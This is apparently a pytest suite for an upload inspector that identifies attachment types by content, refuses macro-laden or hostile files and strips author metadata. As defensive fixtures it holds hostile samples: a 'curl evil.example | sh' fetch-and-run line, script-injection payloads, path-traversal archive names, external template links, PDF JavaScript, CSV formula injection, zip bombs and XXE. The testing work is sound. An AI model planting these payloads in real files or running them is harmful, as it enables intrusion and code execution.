"""Attachment types are recognised by content and structure, never by name; hostile files
are refused with a reason, and what is kept carries no author."""

from __future__ import annotations

import io
import random
import struct
import zipfile

import pikepdf
import pytest
from PIL import Image

from intel.reports import filetypes
from intel.reports.filetypes import Refused
from tests.intel.reports import upload_files as uf
from tests.intel.reports.upload_files import (
    AUTHOR,
    AUTHOR_EMAIL,
    AUTHOR_LOGIN,
    CFB,
    MS_R,
    OFFICE,
    Office,
    R,
)

PNG = uf.png()
JPEG = uf.jpeg()
PDF = uf.pdf()


def office(*members: str) -> bytes:
    """An Office package holding `members`; without a workbook or document among them, a
    zip that only looks like one."""
    if "xl/workbook.xml" in members:
        package = Office("xlsx")
    elif "word/document.xml" in members:
        package = Office("docx")
    else:
        return uf.zip_of({"[Content_Types].xml": "<Types/>", **dict.fromkeys(members, "<x/>")})
    for member in members:
        package.parts.setdefault(member, b"<x/>")
    return package.to_bytes()


XLSX = office("xl/workbook.xml", "xl/worksheets/sheet1.xml")
DOCX = office("word/document.xml")


def check(content: bytes, name: str, declared: str = "") -> filetypes.Inspected:
    return filetypes.inspect(content, name=name, declared_type=declared)


def refusal(content: bytes, name: str, declared: str = "") -> str:
    with pytest.raises(Refused) as excinfo:
        check(content, name, declared)
    return excinfo.value.message


@pytest.mark.parametrize(
    ("content", "name", "expected"),
    [
        (PDF, "a.pdf", "pdf"),
        (PNG, "a.png", "png"),
        (JPEG, "a.jpg", "jpeg"),
        (JPEG, "a.JPEG", "jpeg"),
        (XLSX, "a.xlsx", "xlsx"),
        (DOCX, "a.docx", "docx"),
        (b"date,commodity,price\n2025-06-01,gallium,420\n", "a.csv", "csv"),
        ("日付,品目,価格\n2025-06-01,ガリウム,420\n".encode("cp932"), "a.csv", "csv"),
        ("\ufeff日付,品目\n".encode(), "a.csv", "csv"),
        (b"date;price\n2025-06-01;-4,5\n", "a.csv", "csv"),
        (b"date\tprice\n2025-06-01\t420\n", "a.tsv", "csv"),
    ],
)
def test_allowed_types_are_recognised(content, name, expected):
    assert check(content, name).file_type.key == expected


@pytest.mark.parametrize(
    "content",
    [
        b"MZ\x90\x00\x03" + b"\x00" * 64,  # a Windows executable
        b"\x7fELF\x02\x01\x01" + b"\x00" * 64,
        b"GIF89a" + b"\x00" * 20,
        office("xl/workbook.xml", "xl/vbaProject.bin"),  # macro-enabled
        office("content.xml"),  # a zip that is no Office document
        b"PK\x03\x04 broken zip",
        b"text with a NUL \x00 byte",
        b"",
    ],
)
def test_other_content_is_refused(content):
    with pytest.raises(Refused):
        check(content, "a.csv")


# --- Names and declared types must agree with the content --------------------------


@pytest.mark.parametrize(
    ("content", "name"),
    [(uf.xlsx(), "figures.pdf"), (PDF, "notes.csv"), (PNG, "photo.jpg"), (b"a,b\n1,2\n", "a")],
)
def test_a_name_that_disagrees_with_the_content_is_refused_not_relabelled(content, name):
    assert "give it a" in refusal(content, name)


@pytest.mark.parametrize(
    ("content", "name", "declared"),
    [
        (b"a,b\n1,2\n", "a.csv", "text/html"),
        (PNG, "a.png", "image/svg+xml"),
        (PDF, "a.pdf", "image/png"),
    ],
)
def test_a_declared_type_that_disagrees_with_the_content_is_refused(content, name, declared):
    assert "was sent as" in refusal(content, name, declared)


@pytest.mark.parametrize(
    ("content", "name", "declared", "kind"),
    [
        (b"a,b\n1,2\n", "a.csv", "application/vnd.ms-excel", "csv"),
        (b"a,b\n1,2\n", "a.csv", "text/plain; charset=utf-8", "csv"),
        (PDF, "a.pdf", "application/octet-stream", "pdf"),
        (uf.docx(), "a.docx", filetypes.DOCX.mime, "docx"),
        (JPEG, "a.jpeg", "image/pjpeg", "jpeg"),
    ],
)
def test_declared_types_that_browsers_send_are_accepted(content, name, declared, kind):
    assert check(content, name, declared).file_type.key == kind


# --- Markup and scripts pretending to be PDF or CSV ---------------------------------


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (uf.HTML, "report.pdf"),
        (uf.SVG, "chart.pdf"),
        (uf.HTML, "table.csv"),
        (uf.SVG, "table.csv"),
        (b"\n  <html><p>a,b</p></html>", "table.csv"),
        (b"name,note\nx,<script src=//evil.example/x.js></script>\n", "table.csv"),
        (b"name,note\nx,<svg/onload=alert(1)>\n", "table.csv"),
        (b'<?xml version="1.0"?><rows><row a="1" b="2"/></rows>', "table.csv"),
    ],
)
def test_markup_is_refused_whatever_its_name(content, name):
    message = refusal(content, name)
    assert "markup" in message or "not one of the allowed types" in message


@pytest.mark.parametrize(
    "content",
    [
        b"#!/bin/sh\ncurl evil.example | sh\n",
        b"just one line of prose\n",
        b"a,b,c\n1,2\n",  # rows of different widths
        b'a,b\n"unterminated,2\n',
    ],
)
def test_csv_must_be_a_table(content):
    assert "must be a table" in refusal(content, "table.csv")


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.7\n<html><script>alert(1)</script></html>\n",  # no trailer
        b"%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF\n",  # no PDF objects
        PDF[: len(PDF) // 2],
    ],
)
def test_pdf_must_be_a_whole_pdf(content):
    assert "The PDF is incomplete or damaged" in refusal(content, "report.pdf")


def test_password_protected_pdf_is_refused():
    document = pikepdf.open(io.BytesIO(PDF))
    buffer = io.BytesIO()
    document.save(buffer, encryption=pikepdf.Encryption(user="secret", owner="secret"))
    assert "password-protected" in refusal(buffer.getvalue(), "report.pdf")


def test_old_office_and_encrypted_office_files_are_refused():
    assert "Old-format" in refusal(CFB, "report.docx")


# --- Macros, outside links and embeddings, found by structure -------------------------


def _vba_by_relationship() -> bytes:
    # A VBA project under a harmless name and type, found by the relationship to it.
    package = Office("docx").add("word/styles2.xml", "<x/>")
    return package.relate(
        package.main, f"{MS_R}/2006/relationships/vbaProject", "styles2.xml"
    ).to_bytes()


@pytest.mark.parametrize(
    "content",
    [
        _vba_by_relationship(),
        Office("docx").add("word/media/image7.png", b"not a picture", uf.VBA_TYPE).to_bytes(),
        Office(
            "docx", main_type="application/vnd.ms-word.document.macroEnabled.main+xml"
        ).to_bytes(),
        Office("xlsx", main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml").to_bytes(),
        Office("xlsx")
        .add("xl/macrosheets/sheet1.xml", "<x/>", "application/vnd.ms-excel.macrosheet+xml")
        .to_bytes(),
        Office("docx").add("word/vbaProject.bin", b"x", "application/octet-stream").to_bytes(),
    ],
    ids=["relationship", "content-type", "docm", "xlsm", "excel4-macrosheet", "name"],
)
def test_macros_are_found_by_structure_not_name(content):
    name = "report.docx" if b"word/" in content else "figures.xlsx"
    assert "contains macros" in refusal(content, name)


def test_a_vba_project_renamed_as_a_picture_is_found_by_its_content():
    package = Office("docx").add("word/media/image1.png", CFB, "image/png")
    assert "embeds other files" in refusal(package.to_bytes(), "report.docx")


@pytest.mark.parametrize(
    "content",
    [
        uf.external(f"{R}/attachedTemplate", "https://evil.example/template.dotm"),
        uf.external(f"{R}/attachedTemplate", "file:///C:/Users/hyamada/Normal.dotm"),
        uf.external(f"{R}/frame", "https://evil.example/frame.html", "word/webSettings.xml"),
        uf.external(f"{R}/image", "\\\\evil.example\\share\\pixel.png", "word/document.xml"),
        uf.external(f"{R}/subDocument", "https://evil.example/part.docx", "word/document.xml"),
    ],
    ids=["template", "local-template", "frame", "linked-picture", "subdocument"],
)
def test_links_to_outside_templates_frames_and_objects_are_refused(content):
    assert "links to an outside" in refusal(content, "report.docx")


def test_an_outside_hyperlink_is_fine():
    package = Office("docx")
    package.relate(package.main, f"{R}/hyperlink", "https://www.meti.go.jp/", external=True)
    inspected = check(package.to_bytes(), "report.docx")
    assert inspected.file_type.key == "docx"
    assert b"https://www.meti.go.jp/" in b"".join(uf.unzip_all(inspected.content).values())


@pytest.mark.parametrize(
    "package",
    [
        Office("docx")
        .add("word/embeddings/oleObject1.bin", CFB, f"{OFFICE}.oleObject")
        .relate("word/document.xml", f"{R}/oleObject", "embeddings/oleObject1.bin"),
        Office("docx").add("word/embeddings/data.dat", b"data", "application/octet-stream"),
        Office("docx").add(
            "word/activeX/activeX1.xml", "<x/>", "application/vnd.ms-office.activeX+xml"
        ),
        Office("docx")
        .add("word/other.xml", "<x/>")
        .relate("word/document.xml", f"{R}/oleObject", "other.xml"),
        Office("docx")
        .add("word/afchunk.mht", b"MIME", "message/rfc822")
        .relate("word/document.xml", f"{R}/aFChunk", "afchunk.mht"),
    ],
    ids=["ole-object", "embeddings-folder", "activex", "ole-relationship", "alt-chunk"],
)
def test_ole_activex_and_other_embeddings_are_refused(package):
    assert "embeds other files" in refusal(package.to_bytes(), "report.docx")


# --- A chart's workbook, the one archive allowed inside -------------------------------


def _embedded(cleaned: bytes) -> dict[str, bytes]:
    return uf.unzip_all(uf.unzip_all(cleaned)[uf.CHART_DATA])


def test_a_docx_with_a_chart_keeps_its_data_workbook_without_its_author():
    original = Office("docx").with_chart().to_bytes()
    assert AUTHOR.encode() in _all_text(_embedded(original))

    inspected = check(original, "report.docx")

    assert inspected.file_type.key == "docx"
    parts = uf.unzip_all(inspected.content)
    assert b"<c:externalData" in parts["word/charts/chart1.xml"]
    assert b"Microsoft_Excel_Worksheet.xlsx" in parts["word/charts/_rels/chart1.xml.rels"]
    workbook = _embedded(inspected.content)
    assert b"gallium 420" in _all_text(workbook)
    for trace in (AUTHOR, AUTHOR_EMAIL, AUTHOR_LOGIN):
        assert trace.encode() not in _all_text(workbook), trace
    assert not any(name.startswith(("docProps/", "customXml/")) for name in workbook)
    # Both stay whole: the workbook passes on its own, the document passes again.
    assert check(parts[uf.CHART_DATA], "data.xlsx").file_type.key == "xlsx"
    assert check(inspected.content, "report.docx").content == inspected.content


def test_a_docx_may_embed_a_document_as_a_package_too():
    package = Office("docx").with_chart(Office("docx").with_author().to_bytes(),
                                        content_type=uf.DOCX_PACKAGE)  # fmt: skip
    cleaned = check(package.to_bytes(), "report.docx").content
    assert AUTHOR.encode() not in _all_text(_embedded(cleaned))


def _vba_workbook() -> bytes:
    workbook = Office("xlsx").add("xl/styles2.xml", "<x/>")
    workbook.relate(workbook.main, f"{MS_R}/2006/relationships/vbaProject", "styles2.xml")
    return workbook.to_bytes()


@pytest.mark.parametrize(
    ("workbook", "content_type"),
    [
        (_vba_workbook(), uf.XLSX_PACKAGE),
        (Office("xlsx").add("xl/vbaProject.bin", CFB, uf.VBA_TYPE).to_bytes(), uf.XLSX_PACKAGE),
        (
            Office(
                "xlsx", main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"
            ).to_bytes(),
            uf.XLSX_PACKAGE,
        ),
        (uf.xlsx(), "application/vnd.ms-excel.sheet.macroEnabled.12"),
    ],
    ids=["vba-relationship", "vba-part", "xlsm-inside", "declared-xlsm"],
)
def test_a_chart_whose_workbook_has_macros_is_refused(workbook, content_type):
    package = Office("docx").with_chart(workbook, content_type=content_type)
    assert "contains macros" in refusal(package.to_bytes(), "report.docx")


def test_a_chart_workbook_with_an_ole_object_is_refused():
    workbook = (
        Office("xlsx")
        .add("xl/embeddings/oleObject1.bin", CFB, f"{OFFICE}.oleObject")
        .relate("xl/worksheets/sheet1.xml", f"{R}/oleObject", "../embeddings/oleObject1.bin")
    )
    package = Office("docx").with_chart(workbook.to_bytes())
    assert "embeds other files" in refusal(package.to_bytes(), "report.docx")


def test_an_embedded_workbook_may_embed_no_archive_itself():
    inner = Office("docx").with_chart(uf.xlsx()).to_bytes()
    package = Office("docx").with_chart(inner, content_type=uf.DOCX_PACKAGE)
    assert "another archive" in refusal(package.to_bytes(), "report.docx")


@pytest.mark.parametrize(
    ("workbook", "content_type"),
    [
        (uf.zip_of({"a.txt": "a"}), uf.XLSX_PACKAGE),  # a zip, but no Office package
        (uf.docx(), uf.XLSX_PACKAGE),  # a document declared as a workbook
        (uf.xlsx(), f"{OFFICE}.presentationml.presentation"),
        (uf.xlsx(), "application/zip"),
        (b"plain bytes", uf.XLSX_PACKAGE),
    ],
    ids=["plain-zip", "wrong-kind", "presentation", "zip-type", "not-a-zip"],
)
def test_only_a_workbook_or_document_may_be_embedded_as_a_package(workbook, content_type):
    package = Office("docx").with_chart(workbook, content_type=content_type)
    message = refusal(package.to_bytes(), "report.docx")
    assert "another archive" in message or "embeds other files" in message


def test_an_embedded_workbook_needs_the_package_relationship():
    package = Office("docx").add("word/embeddings/Book1.xlsx", uf.xlsx(), uf.XLSX_PACKAGE)
    assert "embeds other files" in refusal(package.to_bytes(), "report.docx")


def test_the_embedded_workbook_spends_the_outer_files_part_limit(monkeypatch):
    content = Office("docx").with_chart(uf.xlsx()).to_bytes()
    parts = len(uf.unzip_all(content)) + len(uf.unzip_all(uf.xlsx()))
    monkeypatch.setattr(filetypes, "MAX_MEMBERS", parts)
    assert check(content, "report.docx").file_type.key == "docx"
    monkeypatch.setattr(filetypes, "MAX_MEMBERS", parts - 1)
    assert f"more than {parts - 1} parts" in refusal(content, "report.docx")


def test_the_embedded_workbook_spends_the_outer_files_unpacked_size(monkeypatch):
    workbook = Office("xlsx").add("xl/media/filler.xml", "<x>" + "7" * 300_000 + "</x>")
    content = Office("docx").with_chart(workbook.to_bytes()).to_bytes()
    outer = sum(len(part) for part in uf.unzip_all(content).values())
    inner = sum(len(part) for part in _embedded(content).values())
    monkeypatch.setattr(filetypes, "MAX_UNPACKED_BYTES", outer + inner)
    assert check(content, "report.docx").file_type.key == "docx"
    # Each level alone fits; together they do not.
    monkeypatch.setattr(filetypes, "MAX_UNPACKED_BYTES", max(outer, inner) + 1)
    assert "cannot be checked safely" in refusal(content, "report.docx")


def test_a_zip_bomb_embedded_as_a_chart_workbook_is_refused():
    bomb = uf.zeros_package(64 * 1024 * 1024)  # 1000:1 inside
    package = Office("docx").with_chart(bomb, content_type=uf.DOCX_PACKAGE)
    assert "cannot be checked safely" in refusal(package.to_bytes(), "report.docx")


# --- Zip bombs and hostile archives ------------------------------------------------


def test_a_gigabyte_of_zeros_in_a_megabyte_is_refused():
    bomb = uf.zeros_package(1024 * 1024 * 1024)
    assert len(bomb) < 2 * 1024 * 1024
    assert "cannot be checked safely" in refusal(bomb, "report.docx")


def _patch_directory(data: bytes, member: str, offset: int, value: int, fmt: str = "<I") -> bytes:
    """`data` with a field of `member`'s central directory entry set to `value`
    (offset 24, four bytes: its unpacked size; offset 8, two bytes: its flags)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        position = archive.start_dir
    patched = bytearray(data)
    while patched[position : position + 4] == b"PK\x01\x02":
        name_length, extra_length, comment_length = struct.unpack(
            "<HHH", patched[position + 28 : position + 34]
        )
        if patched[position + 46 : position + 46 + name_length] == member.encode():
            field = struct.pack(fmt, value)
            patched[position + offset : position + offset + len(field)] = field
        position += 46 + name_length + extra_length + comment_length
    return bytes(patched)


def test_a_bomb_whose_directory_lies_about_its_size_is_refused():
    bomb = uf.zeros_package(64 * 1024 * 1024)  # ratio 1000:1, over the limit
    with zipfile.ZipFile(io.BytesIO(bomb)) as archive:
        packed = archive.getinfo("word/media/zeros.xml").compress_size
    # The directory now claims a ratio of 2:1; reading must not believe it.
    liar = _patch_directory(bomb, "word/media/zeros.xml", 24, packed * 2)
    assert "word/media/zeros.xml" in zipfile.ZipFile(io.BytesIO(liar)).namelist()
    with pytest.raises(Refused):
        check(liar, "report.docx")


def test_a_member_compressed_beyond_the_ratio_limit_is_refused(monkeypatch):
    monkeypatch.setattr(filetypes, "RATIO_FLOOR", 1024)
    bomb = uf.zeros_package(2 * 1024 * 1024)
    assert "cannot be checked safely" in refusal(bomb, "report.docx")


def test_too_many_members_are_refused():
    package = Office("docx")
    for index in range(filetypes.MAX_MEMBERS):
        package.add(f"word/media/part{index}.xml", "<x/>")
    assert "more than 1000 parts" in refusal(package.to_bytes(), "report.docx")


def test_a_nested_zip_is_refused():
    package = Office("docx").add(
        "word/media/archive.zip", uf.zip_of({"a.txt": "a"}), "application/zip"
    )
    assert "another archive" in refusal(package.to_bytes(), "report.docx")


@pytest.mark.parametrize(
    "name", ["../evil.xml", "/etc/evil.xml", "word\\..\\..\\evil.xml", "C:/evil.xml", "word//x.xml"]
)
def test_unsafe_member_names_are_refused(name):
    package = Office("docx").add(name, "<x/>")
    assert "unsafe or repeated names" in refusal(package.to_bytes(), "report.docx")


def test_repeated_member_names_are_refused():
    package = Office("docx").to_bytes()
    buffer = io.BytesIO(package)
    with pytest.warns(UserWarning), zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("word/document.xml", "<w:document/>")
    assert "unsafe or repeated names" in refusal(buffer.getvalue(), "report.docx")


def test_encrypted_members_are_refused():
    package = Office("docx").to_bytes()
    # Bit 0 of the entry's flags (offset 8 in the directory) marks it encrypted.
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        flags = archive.getinfo("word/document.xml").flag_bits
    encrypted = _patch_directory(package, "word/document.xml", 8, flags | 0x1, "<H")
    assert "encrypted parts" in refusal(encrypted, "report.docx")


# --- XML is parsed safely -------------------------------------------------------------


@pytest.mark.parametrize(
    ("part", "content"),
    [
        ("word/document.xml", uf.LAUGHS),
        ("word/document.xml", uf.XXE),
        ("word/document.xml", "<w:document><w:body>"),  # not well-formed
        ("word/styles.xml", uf.XXE),
        ("word/_rels/document.xml.rels", uf.XXE),
    ],
)
def test_hostile_or_broken_xml_is_refused(part, content):
    members = uf.unzip_all(Office("docx").to_bytes())
    members[part] = content.encode()
    assert "not well-formed XML" in refusal(uf.zip_of(members), "report.docx")


# --- Damaged files of every type are refused, never crash ----------------------------


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (PDF, "a.pdf"),
        (PNG, "a.png"),
        (JPEG, "a.jpg"),
        (Office("docx").with_author().to_bytes(), "a.docx"),
        (Office("xlsx").with_author().to_bytes(), "a.xlsx"),
        (Office("docx").with_chart().to_bytes(), "chart.docx"),
        (b"a,b\n=1,2\n", "a.csv"),
    ],
)
def test_damaged_files_are_refused_or_cleaned_never_crash(content, name):
    shuffle = random.Random(f"{name}-{len(content)}")  # fixed per case: the same run every time
    for _ in range(40):
        damaged = bytearray(content)
        for _ in range(shuffle.randint(1, 8)):
            damaged[shuffle.randrange(len(damaged))] = shuffle.randrange(256)
        cut = shuffle.choice([len(damaged), shuffle.randrange(1, len(damaged))])
        try:
            check(bytes(damaged[:cut]), name)
        except Refused as refused:
            assert refused.message


# --- What is kept carries no author -------------------------------------------------


def _all_text(parts: dict[str, bytes]) -> bytes:
    return b"\n".join(parts.values())


@pytest.mark.parametrize("kind", ["docx", "xlsx"])
def test_office_files_keep_their_content_but_lose_every_trace_of_the_author(kind):
    original = Office(kind).with_author().to_bytes()
    assert AUTHOR.encode() in _all_text(uf.unzip_all(original))

    cleaned = check(original, f"report.{kind}").content

    parts = uf.unzip_all(cleaned)
    for trace in (AUTHOR, AUTHOR_EMAIL, AUTHOR_LOGIN, "HY", "00A1B2C3"):
        assert trace.encode() not in _all_text(parts), trace
    photo = f"{'word' if kind == 'docx' else 'xl'}/media/photo.jpeg"
    assert not Image.open(io.BytesIO(parts[photo])).getexif()
    before = Image.open(io.BytesIO(uf.unzip_all(original)[photo]))
    assert Image.open(io.BytesIO(parts[photo])).tobytes() == before.tobytes()  # not re-encoded
    text = b"Gallium licences delayed." if kind == "docx" else b"gallium 420"
    assert text in _all_text(parts)
    # Still a consistent package: every relationship points at a part, and it passes again.
    assert check(cleaned, f"report.{kind}").file_type.key == kind
    assert not any(name.startswith(("docProps/", "customXml/")) for name in parts)


def test_a_metadata_relationship_cannot_make_cleaning_drop_the_document():
    package = Office("docx")
    package.relate("", f"{uf.PACKAGE_R}/metadata/core-properties", package.main)
    cleaned = check(package.to_bytes(), "report.docx").content
    assert b"Gallium licences delayed." in uf.unzip_all(cleaned)["word/document.xml"]
    assert check(cleaned, "report.docx").file_type.key == "docx"


def test_word_keeps_the_markup_compatibility_prefixes_it_relies_on():
    cleaned = check(Office("docx").with_author().to_bytes(), "report.docx").content
    document = uf.unzip_all(cleaned)["word/document.xml"]
    assert b'mc:Ignorable="w14"' in document
    assert b'xmlns:w14="' in document
    assert b'w:author="Author"' in document


def test_pdf_loses_info_xmp_and_comment_authors_but_keeps_its_pages():
    original = uf.pdf(author=AUTHOR, pages=2)
    assert AUTHOR.encode() in original

    cleaned = check(original, "report.pdf").content

    assert AUTHOR.encode() not in cleaned
    assert AUTHOR_LOGIN.encode() not in cleaned
    with pikepdf.open(io.BytesIO(cleaned)) as document:
        assert len(document.pages) == 2
        assert "/Info" not in document.trailer
        assert "/Metadata" not in document.Root
        for obj in document.objects:
            if isinstance(obj, pikepdf.Stream):
                assert AUTHOR.encode() not in obj.read_bytes()


def test_pdf_embedded_files_are_removed():
    document = pikepdf.open(io.BytesIO(uf.pdf()))
    attached = pikepdf.AttachedFileSpec(document, Office("docx").with_author().to_bytes())
    document.attachments["notes.docx"] = attached
    buffer = io.BytesIO()
    document.save(buffer)

    cleaned = check(buffer.getvalue(), "report.pdf").content

    with pikepdf.open(io.BytesIO(cleaned)) as result:
        assert len(result.attachments) == 0
        assert not any(
            isinstance(obj, pikepdf.Stream) and obj.get("/Type") == "/EmbeddedFile"
            for obj in result.objects
        )


def test_a_photo_placed_in_a_pdf_loses_its_exif_but_not_its_pixels():
    photo = uf.jpeg(artist=AUTHOR, gps=True)
    document = pikepdf.open(io.BytesIO(uf.pdf()))
    image = pikepdf.Stream(
        document, photo, Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image, Width=8,
        Height=6, ColorSpace=pikepdf.Name.DeviceRGB, BitsPerComponent=8,
        Filter=pikepdf.Name.DCTDecode,
    )  # fmt: skip
    document.pages[0].obj["/Resources"] = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))
    buffer = io.BytesIO()
    document.save(buffer)
    assert AUTHOR.encode() in buffer.getvalue()  # placed as it came from the camera

    cleaned = check(buffer.getvalue(), "report.pdf").content

    assert AUTHOR.encode() not in cleaned
    with pikepdf.open(io.BytesIO(cleaned)) as result:
        placed = result.pages[0].obj["/Resources"]["/XObject"]["/Im0"].read_raw_bytes()
    picture = Image.open(io.BytesIO(placed))
    assert picture.size == (8, 6) and not picture.getexif()
    assert Image.open(io.BytesIO(photo)).tobytes() == picture.tobytes()  # the same pixels


def test_pdf_javascript_is_removed():
    document = pikepdf.open(io.BytesIO(uf.pdf()))
    document.Root["/OpenAction"] = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('https://evil.example')")
    )
    buffer = io.BytesIO()
    document.save(buffer)

    cleaned = check(buffer.getvalue(), "report.pdf").content

    assert b"evil.example" not in cleaned


def test_photo_loses_exif_gps_xmp_and_comments_and_stays_upright():
    original = uf.jpeg(artist=AUTHOR, gps=True, orientation=6, size=(8, 6))
    assert AUTHOR.encode() in original

    cleaned = check(original, "photo.jpg").content

    assert AUTHOR.encode() not in cleaned
    image = Image.open(io.BytesIO(cleaned))
    assert not image.getexif()
    assert "xmp" not in image.info and "comment" not in image.info
    assert image.size == (6, 8)  # orientation 6 applied to the pixels


def test_png_loses_its_text_chunks():
    original = uf.png(text={"Author": AUTHOR, "Comment": AUTHOR_EMAIL})
    cleaned = check(original, "chart.png").content
    assert AUTHOR.encode() not in cleaned and AUTHOR_EMAIL.encode() not in cleaned
    assert Image.open(io.BytesIO(cleaned)).size == (8, 6)


def test_an_image_too_large_to_open_safely_is_refused(monkeypatch):
    monkeypatch.setattr(filetypes, "MAX_IMAGE_PIXELS", 40)
    assert "megapixels" in refusal(uf.png(size=(8, 6)), "chart.png")


# --- CSV formula cells are neutralised ------------------------------------------------


def test_csv_formula_cells_are_prefixed_and_the_rest_kept():
    original = (
        b'name,value,note\r\n"=HYPERLINK(""http://evil.example"",""x"")",+1+2,-2+3\r\n'
        b'@SUM(A1),"\tx","\r=1"\r\nplain,-4.5,+81\r\n  =1+1,ok,"a,b"\r\n'
    )

    cleaned = check(original, "table.csv").content

    assert cleaned == (
        b'name,value,note\r\n"\'=HYPERLINK(""http://evil.example"",""x"")",\'+1+2,\'-2+3\r\n'
        b"'@SUM(A1),'\tx,\"'\r=1\"\r\nplain,-4.5,+81\r\n'  =1+1,ok,\"a,b\"\r\n"
    )


def test_csv_without_formulas_is_kept_byte_for_byte():
    original = b'date,price\n2025-06-01,"420"\n2025-06-02,-3\n'
    assert check(original, "table.csv").content == original


def test_shift_jis_csv_keeps_its_encoding_when_neutralised():
    original = "品目,式\nガリウム,=1+1\n".encode("cp932")
    cleaned = check(original, "table.csv").content
    assert cleaned.decode("cp932") == "品目,式\nガリウム,'=1+1\n"
